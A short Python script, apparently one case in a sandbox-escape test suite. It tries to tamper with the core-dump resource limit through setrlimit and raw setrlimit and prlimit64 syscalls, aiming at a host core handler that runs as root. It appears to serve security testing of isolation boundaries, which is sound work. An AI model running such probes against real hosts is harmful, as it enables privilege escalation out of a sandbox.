"""Crash into the host's core handler, which runs as root.

A handler behind a pipe ignores a limit of 0 and obeys a limit of 1.
"""

import resource

import kit


def attack():
    limits = resource.getrlimit(resource.RLIMIT_CORE)
    if limits != (1, 1):
        return limits
    resource.setrlimit(resource.RLIMIT_NOFILE, (128, 128))  # Other limits can be set.
    return kit.any_of(
        lambda: resource.setrlimit(resource.RLIMIT_CORE, (0, 0)) or "set to 0",
        lambda: kit.syscall("setrlimit", resource.RLIMIT_CORE, bytes(16)),
        lambda: kit.syscall("prlimit64", 0, (1 << 32) + 4, bytes(16), None),
    )


kit.play(attack)
